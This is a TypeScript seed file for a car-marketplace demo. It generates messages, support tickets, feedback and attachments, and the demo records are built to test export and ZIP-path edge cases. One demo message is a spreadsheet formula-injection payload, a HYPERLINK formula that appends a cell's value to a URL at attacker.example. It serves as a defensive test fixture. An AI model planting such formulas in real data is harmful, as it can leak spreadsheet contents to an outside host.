// The demo users' communication: messages with dealers, support tickets, feedback (the Messages,
// SupportTickets and Feedback tables) and the files they attached, in the uploads bucket.
import type { WireItem } from '../lambdas/core/values/attribute-values.ts';
import { ago, BOOL, N, S, solidPng } from './demo-seed-generators.ts';
import type { UserSeedContext } from './demo-users.ts';

export const DEMO_BUCKET = 'marketplace-uploads';

/** Messages the demo user wrote: text that breaks naive CSV and spreadsheet exports. */
const DEMO_MESSAGES = [
  '=HYPERLINK("http://attacker.example/?d="&A1,"Claim your $500 rebate")',
  'Hi, is the "Onyx Edition" still available?\nI can come by Saturday, 10am, if so.',
  'Price, as listed, is $36,120.00 — does that include the "dealer prep" fee?',
  '+1 for the towing package; also: Größe ✓ 日本語',
  '@sales please send the Carfax report',
];
const OTHER_MESSAGES = [
  'Is this vehicle still available?',
  'What is the out-the-door price including taxes and fees?',
  'Can I schedule a test drive this weekend?',
  'Does it have a clean title and service records?',
];
const DEALER_REPLIES = [
  'Yes, it is still on the lot. When would you like to come in?',
  'I have attached the window sticker. Let me know if you have questions.',
  'We can hold it until Saturday with a refundable deposit.',
];

export function addCommunicationRecords({ person, isDemo, userId, random, car, spaced, add }: UserSeedContext): void {
  const bodies = isDemo ? DEMO_MESSAGES : OTHER_MESSAGES;
  add(
    'Messages',
    ...bodies.flatMap((body, i): WireItem[] => {
      const v = car(i);
      // Ten hours apart, each answered within a little over two hours: sort keys never collide.
      const minutes = (i + 1) * 600 + random.float(0, 300);
      const sent = ago(minutes);
      const replied = ago(minutes - random.int(17, 137));
      const common = { userId, threadId: S(`th-${person.id}-${v.vin.slice(-6)}`), vin: S(v.vin), dealerId: S(v.dealer.id), dealerName: S(v.dealer.name) };
      return [
        { ...common, sk: S(`MSG#${sent}`), direction: S('sent'), body: S(body), sentAt: S(sent), read: BOOL(true) },
        { ...common, sk: S(`MSG#${replied}`), direction: S('received'), body: S(random.pick(DEALER_REPLIES)), sentAt: S(replied), read: BOOL(i > 0) },
      ];
    }),
  );

  add('SupportTickets', {
    userId,
    ticketId: S(`T-${random.int(40_000, 49_999)}`),
    subject: S(isDemo ? "Dealer listed the wrong mileage, and the photos don't match" : 'Cannot save a search'),
    status: S(random.pick(['open', 'pending', 'resolved'])),
    priority: S('normal'),
    channel: S(random.pick(['web', 'email', 'chat'])),
    createdAt: S(spaced(3, 60 * 24)),
    updatedAt: S(spaced(1, 60 * 24)),
    tags: { SS: ['listing-accuracy', 'dealer'] },
  });

  add(
    'Feedback',
    ...[0, 1].map((i): WireItem => ({
      userId,
      submittedAt: S(spaced(i, 60 * 24 * 10)),
      rating: N(random.int(3, 5)),
      npsScore: N(random.int(6, 10)),
      page: S(random.pick(['/search', '/inventory', '/saved'])),
      comment: S(
        i === 0 && isDemo
          ? 'Love the map view, but filters reset when I go back — please fix!'
          : random.pick(['Great selection.', 'Search is fast.', 'Would like more photos per listing.']),
      ),
    })),
  );
}

/**
 * Attachments: a photo and a document per user; the demo user adds a nested folder and a name with
 * spaces and unicode, which the archive must turn into safe ZIP paths without losing them.
 */
export function addAttachments({ person, isDemo, random, car, objects }: UserSeedContext): void {
  const prefix = `users/${person.id}/attachments/`;
  const text = (body: string): string => Buffer.from(body, 'utf8').toString('base64');
  objects.push(
    { bucket: DEMO_BUCKET, key: `${prefix}${car(0).vin}-front.png`, base64: solidPng(8, [random.int(0, 255), random.int(0, 255), random.int(0, 255)]).toString('base64') },
    {
      bucket: DEMO_BUCKET,
      key: `${prefix}trade-in-${person.id}.txt`,
      base64: text(`Trade-in details for ${person.name}\nVehicle: ${car(1).year} ${car(1).make} ${car(1).model}\nMileage: ${random.int(12_000, 98_000)}\n`),
    },
  );
  if (isDemo) {
    objects.push(
      { bucket: DEMO_BUCKET, key: `${prefix}trade-in/photos/2019 Subaru rear.png`, base64: solidPng(4, [30, 60, 120]).toString('base64') },
      { bucket: DEMO_BUCKET, key: `${prefix}Préstamo – carta de aprobación ✓.txt`, base64: text('Carta de pre-aprobación: hasta $38,000 a 60 meses.\nGröße ✓ 日本語\n') },
    );
  }
}
